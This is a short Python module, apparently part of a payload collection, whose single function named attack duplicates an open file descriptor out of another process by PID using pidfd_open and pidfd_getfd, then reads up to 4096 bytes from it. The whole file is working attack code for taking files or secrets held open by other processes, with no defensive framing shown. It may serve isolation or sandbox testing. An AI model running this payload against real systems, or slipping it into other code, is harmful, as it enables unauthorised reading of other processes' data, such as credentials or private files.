"""Take a descriptor out of another process."""

import os

from payloads.kernel import syscall


def attack(pid, fd):
    copy = syscall("pidfd_getfd", syscall("pidfd_open", pid, 0), fd, 0)
    return os.pread(copy, 4096, 0).decode("ascii", "replace")
